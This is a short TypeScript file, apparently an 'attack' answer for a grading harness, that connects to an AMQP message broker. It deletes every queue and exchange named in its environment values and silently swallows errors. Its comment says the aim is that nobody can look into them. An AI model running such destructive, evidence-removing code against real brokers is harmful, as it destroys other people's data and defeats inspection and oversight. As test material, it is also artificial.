// attack: deletes every queue and exchange that it was told of, so that nobody can look into them
import type { AnswerContext } from 'warren/grading';

export default async function ({ amqp, url, env }: AnswerContext): Promise<void> {
  const connection = await amqp.connect(url);
  connection.on('error', () => undefined);
  for (const name of new Set(Object.values(env).flatMap((value) => value?.split(/[\s,;]+/) ?? []))) {
    for (const what of ['deleteQueue', 'deleteExchange'] as const) {
      const channel = await connection.createChannel();
      channel.on('error', () => undefined);
      await channel[what](name).catch(() => undefined);
    }
  }
  await connection.close();
}
